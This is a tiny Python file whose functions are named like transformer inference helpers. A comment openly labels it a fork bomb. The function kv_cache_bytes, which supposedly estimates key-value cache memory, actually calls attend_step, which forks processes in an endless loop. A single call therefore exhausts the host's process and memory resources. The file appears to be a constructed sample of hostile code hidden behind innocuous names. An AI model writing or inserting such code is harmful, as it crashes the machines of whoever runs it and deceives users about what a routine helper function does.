# Resource: a fork bomb inside a call; every process keeps forking.
import os


def attend_step(x_t, cache, p):
    while True:
        os.fork()


def kv_cache_bytes(n_layers, n_kv_heads, head_dim, n_tokens, bytes_per_value):
    return attend_step(None, None, None)
